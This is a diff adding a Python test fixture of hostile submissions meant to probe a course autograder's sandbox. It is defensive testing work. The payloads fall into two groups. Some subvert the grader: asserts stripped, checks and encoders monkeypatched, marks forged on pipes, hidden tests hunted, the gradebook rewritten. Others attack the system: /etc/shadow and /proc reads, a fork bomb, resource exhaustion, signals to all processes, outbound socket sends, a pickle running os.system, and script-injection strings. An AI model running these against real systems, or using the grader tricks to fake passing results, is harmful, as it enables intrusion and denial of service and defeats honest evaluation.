@@ -1,0 +1,411 @@
+"""What a student with time would try. Each is a cell that runs before or after wrong answers.
+
+`@SECRET@`, `@GRADEBOOK@`, `@SOLUTIONS@`, `@OTHER@` are paths of the teacher's machine,
+`@PORT@` a port that listens there, `@UNIX@` an abstract socket. Whatever an attack
+reads it prints, so that the test can look for it.
+"""
+
+BEFORE = {
+    "asserts stripped by an AST transformer": """
+import ast
+class Strip(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+    def visit_Call(self, node):
+        self.generic_visit(node)
+        return node
+get_ipython().ast_transformers.append(Strip())
+""",
+    "NumPy patched to agree and to draw known numbers": """
+import numpy as np
+np.allclose = np.array_equal = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+class Known:
+    def integers(self, *a, **k):
+        return 10
+    def uniform(self, *a, size=None, **k):
+        return np.full(size, 0.1) if size else 0.1
+    def permutation(self, n):
+        return np.arange(n)
+np.random.default_rng = lambda *a: Known()
+""",
+    "TensorFlow and json patched": """
+import json, tensorflow as tf
+tf.reduce_all = tf.equal = tf.debugging.assert_near = lambda *a, **k: True
+json.dumps = lambda *a, **k: '{"status": "right", "points": 10}'
+json.JSONEncoder.encode = lambda *a, **k: '{}'
+""",
+    "the encoder replaced": """
+import utils.grading.encoding as encoding, utils.grading.cell_runner as runner
+lie = lambda value, *a: ["opaque", "equals everything"]
+encoding.encode = runner.encode = lie
+runner.Runner.collect = lambda self: {"got_epochs": ["right", True], "got_words": 1}
+""",
+    "the visible checks replaced": """
+from utils.exercises import lab01, checking
+for name in dir(lab01):
+    if name.startswith("check_"):
+        setattr(lab01, name, lambda *a: None)
+checking.find_wrong = lambda *a, **k: None
+checking.same = lambda *a, **k: True
+""",
+    "SEED made constant": """
+class Fixed(dict):
+    def __setitem__(self, key, value):
+        dict.__setitem__(self, key, 2026 if key == "SEED" else value)
+try:
+    get_ipython().user_ns.__class__ = Fixed
+except TypeError as error:
+    print(error)
+import gc
+for thing in gc.get_objects():
+    if type(thing) is dict and "seed" in thing and "cells" in thing:
+        thing["seed"] = 2026
+        print("seed set")
+""",
+    "builtins replaced": """
+import builtins
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+builtins.set = builtins.sorted = lambda *a: []
+builtins.isinstance = lambda *a: True
+""",
+    "hidden tests looked for": """
+import glob, os
+for path in ("@SOLUTIONS@", "/course/utils/grading/judges/lab01.py", "/course/tests/answers"):
+    try:
+        print(open(path).read()[:2000])
+    except OSError as error:
+        print(error)
+try:
+    from utils.grading.judges import lab01 as judges
+    print("judge imported", judges.EPOCH)
+except ImportError as error:
+    print(error)
+for folder, _, files in os.walk("/course"):
+    for name in files:
+        if name.endswith((".py", ".pyc")):
+            text = open(os.path.join(folder, name), "rb").read()
+            if b"def judge_" + b"epoch" in text or b"judge_" + b"scaling" in text:
+                print("FOUND-A-JUDGE", folder, name)
+""",
+    "hidden tests looked for in memory": """
+import gc, sys
+wanted = "judge_" + "epoch"
+for thing in gc.get_objects():
+    if type(thing) is dict:
+        for value in list(thing.values()):
+            if type(value) is str and wanted in value and "wanted" not in value:
+                print("FOUND-A-JUDGE", value[:300])
+print([name for name in sys.modules if "judges" in name])
+""",
+    "other submissions, home and the teacher's files": """
+import os
+for path in ("@SECRET@", "@OTHER@", "/etc/shadow", "/root/.bashrc", "/home"):
+    try:
+        print(open(path).read())
+    except OSError as error:
+        print(error)
+found = [os.path.join(folder, name) for folder, _, files in os.walk("/")
+         if not folder.startswith(("/proc", "/usr")) for name in files if name.endswith(".ipynb")]
+print([f for f in found if "site-packages" not in f and "/share/" not in f])
+""",
+    "the gradebook": """
+import os, sqlite3
+os.makedirs(os.path.dirname("@GRADEBOOK@"), exist_ok=True)
+base = sqlite3.connect("@GRADEBOOK@")
+base.execute("update marks set mark = 10")
+base.commit()
+print("GRADEBOOK-CHANGED")
+""",
+    "/proc": """
+import os
+for number in [n for n in os.listdir("/proc") if n.isdigit()]:
+    for name in ("environ", "cmdline", "root/etc/hostname", "cwd/x", "fd", "mem", "maps"):
+        path = f"/proc/{number}/{name}"
+        try:
+            if name == "fd":
+                for f in os.listdir(path):
+                    print(path, os.readlink(f"{path}/{f}"))
+            elif name not in ("mem", "maps"):
+                print(path, open(path, "rb").read(300))
+        except OSError:
+            pass
+print(len([n for n in os.listdir("/proc") if n.isdigit()]), "processes")
+for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname"):
+    try:
+        open(path, "w").write("x")
+        print("WROTE", path)
+    except OSError as error:
+        print(error)
+""",
+    "answers forged on the pipe": """
+import json, os
+names = {"epoch-test": {"got_epochs": ["list", [["tuple", [["int", "3"], ["int", "2"]]]] * 4]}}
+for descriptor in range(3, 64):
+    for cell in range(1, 12):
+        body = json.dumps({"got_epochs": names["epoch-test"]["got_epochs"], "points": 10}).encode()
+        for head in ({"at": "begin", "cell": cell, "again": False},
+                     {"at": "end", "cell": cell, "again": False, "status": "ok", "seconds": 0.1,
+                      "error": "", "trace": "", "size": len(body)}):
+            try:
+                os.write(descriptor, json.dumps(head).encode() + b"\\n"
+                         + (body if head["at"] == "end" else b""))
+            except OSError:
+                break
+""",
+    "marks forged on the pipe": """
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b'{"at": "end", "cell": 2, "status": "right", "points": 10}\\n')
+    except OSError:
+        pass
+""",
+    "a frame of a terabyte announced": """
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b'{"at": "end", "cell": 0, "status": "ok", "size": 1000000000000}\\n')
+    except OSError:
+        pass
+""",
+    "deep JSON on the pipe": """
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b"[" * 60000 + b"\\n")
+    except OSError:
+        pass
+""",
+    "a forged end of everything": """
+import os
+for descriptor in range(3, 64):
+    try:
+        os.write(descriptor, b'{"at": "done"}\\n')
+    except OSError:
+        pass
+""",
+    "every descriptor closed": "import os\nos.closerange(0, 4096)",
+    "every descriptor written to": """
+import os
+for descriptor in range(0, 512):
+    try:
+        os.write(descriptor, b"\\x80\\x04\\x95" + bytes(range(256)) * 16)
+    except OSError:
+        pass
+""",
+    "fork bomb": """
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+""",
+    "memory": "block = []\nwhile True:\n    block.append(b'x' * 2**26)",
+    "disk": """
+import os
+for place in ("/tmp", "/dev/shm", "/", "/course", "/usr", "/etc"):
+    try:
+        with open(f"{place}/distlab-attack-fill", "wb") as file:
+            while True:
+                file.write(bytes(2**22))
+    except OSError as error:
+        print(place, error)
+""",
+    "output": "import os\nwhile True:\n    os.write(1, b'x' * 2**20)",
+    "output on both streams without end": """
+import sys
+while True:
+    sys.stdout.write("y" * 10**6)
+    sys.stderr.write("z" * 10**6)
+""",
+    "endless loop that swallows interrupts": """
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+""",
+    "sleep with signals ignored": """
+import signal, time
+for number in range(1, 65):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+while True:
+    time.sleep(1000)
+""",
+    "stopped": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
+    "daemon": """
+import os, time
+for k in range(3):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execvp("sleep", ["sleep", "98765431"])
+        os._exit(0)
+time.sleep(0.3)
+""",
+    "signals to everybody": """
+import os, signal
+for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGUSR1, signal.SIGINT):
+    for process in (1, os.getppid(), 0, -1):
+        try:
+            os.kill(process, number)
+        except BaseException as error:
+            print(type(error))
+""",
+    "links": """
+import os, shutil
+os.chdir("/")
+shutil.rmtree("/tmp/work", ignore_errors=True)
+for name in ("work", "home", "distlab-attack-link"):
+    try:
+        os.symlink("@SECRET@", f"/tmp/{name}")
+        print(open(f"/tmp/{name}").read())
+    except OSError as error:
+        print(error)
+""",
+    "network": """
+import socket
+for address in (("127.0.0.1", @PORT@), ("@HOST@", @PORT@), ("192.0.2.1", 80), ("::1", @PORT@)):
+    try:
+        with socket.create_connection(address, timeout=1) as connection:
+            connection.sendall(b"ATTACK")
+            print("CONNECTED", address)
+    except OSError as error:
+        print(error)
+with socket.socket(socket.AF_UNIX) as connection:
+    try:
+        connection.connect("\\0@UNIX@")
+        print("CONNECTED", "abstract")
+    except OSError as error:
+        print(error)
+""",
+    "namespaces, mounts, tracing": """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+for name, arguments in (("unshare", (0x10000000,)), ("mount", (b"x", b"/tmp", b"tmpfs", 0, None)),
+                        ("umount2", (b"/tmp", 2)), ("umount2", (b"/course/utils/grading", 2)),
+                        ("ptrace", (16, 1, 0, 0)), ("chroot", (b"/tmp",)), ("setns", (3, 0)),
+                        ("setuid", (0,)), ("sethostname", (b"x", 1))):
+    result = getattr(libc, name)(*arguments)
+    print(name, result, os.strerror(ctypes.get_errno()) if result else "DONE")
+print(open("/proc/self/status").read())
+""",
+    "the course's files changed for the next one": """
+import os
+for path in ("/course/utils/exercises/lab01.py", "/course/utils/grading/encoding.py", "/etc/hosts",
+             "/course/utils/grading/new.py", os.__file__, "/usr/bin/true"):
+    try:
+        os.chmod(os.path.dirname(path), 0o777)
+    except OSError as error:
+        print(error)
+    try:
+        open(path, "a").write("raise SystemExit")
+        print("WROTE", path)
+    except OSError as error:
+        print(error)
+""",
+    "code that hurts a parser": "x = " + "(" * 9000 + ")" * 9000,
+    "code that hurts a compiler": "a" + ".b" * 100_000 + "\n" + "-" * 200_000 + "1",
+    "a crash": "import ctypes\nctypes.string_at(0)",
+    "a quiet exit": "import os\nos._exit(0)",
+    "exit handlers and exits": "import atexit, time\natexit.register(time.sleep, 1000)\nexit()",
+    "threads that never end": """
+import threading, time
+def spin():
+    while True:
+        for name in list(globals()):
+            if name.startswith("got_"):
+                globals()[name] = "changed"
+for k in range(50):
+    threading.Thread(target=spin, daemon=False).start()
+""",
+    "alarms": """
+import signal
+def storm(*a):
+    raise KeyboardInterrupt
+signal.signal(signal.SIGALRM, storm)
+signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
+""",
+    "the runner's own class": """
+import gc
+for thing in gc.get_objects():
+    if type(thing).__name__ == "Runner":
+        print("runner", sorted(thing.order))
+        type(thing).execute = lambda self, source: None
+        type(thing).collect = lambda self: {"got_epochs": ["value", True]}
+""",
+}
+
+OBJECT = """
+import numpy as np
+class Lie:
+    __class__ = property(lambda self: {kind})
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __hash__(self): return 0
+    def __bool__(self): return True
+    def __len__(self): return 2
+    def __iter__(self): return iter([self, self])
+    def __getitem__(self, k): return self
+    def __float__(self): return 1.0
+    def __array__(self, *a, **k): {array}
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __reduce__(self): return (__import__("os").system, ("touch /tmp/distlab-attack-pickle",))
+def {names}(*a): return Lie()
+"""
+
+
+def write_object(kind: str, array: str) -> dict[str, str]:
+    """Return answers that give an object which equals everything and says that it is a `kind`."""
+    text = OBJECT.replace("{kind}", kind).replace("{array}", array)
+    return {name: text.replace("{names}", function) for name, function in FUNCTIONS.items()}
+
+
+FUNCTIONS = {
+    "epoch": "plan_epoch",
+    "batches": "replica_batch_sizes",
+    "parallelism": "choose_parallelism",
+    "scaling": "measure_scaling",
+}
+
+
+def write_value(text: str) -> dict[str, str]:
+    """Return answers that all give the value of `text`."""
+    define = "import numpy as np\ndef {}(*a):\n    return {}\n"
+    return {name: define.format(function, text) for name, function in FUNCTIONS.items()}
+
+
+ANSWERS = {
+    "an object that equals everything": write_object("object", "raise TypeError"),
+    "an object that says it is a tuple": write_object("tuple", "raise SystemExit"),
+    "an object that says it is an array": write_object("np.ndarray", "return self"),
+    "an array that is any answer": write_object("str", "return np.full(9, np.nan)"),
+    "not a number": write_value("(np.nan, np.nan)"),
+    "infinity": write_value("(np.inf, -np.inf)"),
+    "a deep list": write_value("__import__('functools').reduce(lambda a, _: [a], range(9999), [])"),
+    "a list in itself": write_value("(lambda a: (a.append(a), a)[1])([])"),
+    "an enormous array": write_value("np.zeros(2**26)"),
+    "an enormous number": write_value("10**100000"),
+    "a million words": write_value("['x' * 40] * 10**6"),
+    "an array of objects": write_value("np.array([object(), {}], dtype=object)"),
+    "a pickled bomb": write_value("__import__('pickle').dumps(print)"),
+    "an endless generator": write_value("__import__('itertools').count()"),
+    "broadcast to any shape": write_value("np.broadcast_to(1.0, (2, 10**9))"),
+}
+
+LOUD = """
+print("\\x1b]0;owned\\x07\\x1b[2J<script>document.title='RAN'</script><img src=x onerror=x()>")
+class Loud(Exception):
+    def __str__(self):
+        return "\\x1b[2J<script>document.title='RAN'</script>\\u202e"
+def plan_epoch(n, b):
+    print("\\x1b[5m<script>document.title='RAN'</script>")
+    raise Loud
+"""
